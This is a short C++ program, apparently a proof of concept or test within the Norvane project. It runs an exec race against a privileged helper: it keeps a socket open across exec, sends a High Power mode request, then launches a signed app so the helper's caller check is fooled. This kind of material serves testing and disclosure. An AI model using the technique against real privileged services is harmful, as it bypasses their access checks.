// The exec race, as a local attacker runs it: connects to the helper's service, sends a
// request to switch the energy mode to High Power, and then executes the signed
// application (its path and arguments follow), which keeps the connection open.
//
//   norvane_exec_race APP [ARGUMENTS...]

#include <fcntl.h>
#include <unistd.h>

#include <vector>

#include "platform/XpcSocket.h"
#include "shared/NorvaneShared.h"

using namespace norvane;

int main(int argc, char** argv) {
    const auto machine = Machine::current();
    if (!machine || argc < 2) return 2;
    const auto folder = SocketFolder::open(*machine);
    const int fd = folder ? connectToService(*folder, helperBundleID) : -1;
    if (fd < 0) return 3;
    ::fcntl(fd, F_SETFD, 0);  // kept across the exec
    Value::Dictionary request;
    request.emplace("selector", Value::string("setPowerMode:reply:"));
    request.emplace("argument", Value::integer(2));
    // Sent or not (a helper that already looked may have closed), the program goes on.
    writeFrame(fd, framed(1, Value::dictionary(std::move(request))));
    ::execv(argv[1], argv + 1);
    return 5;
}
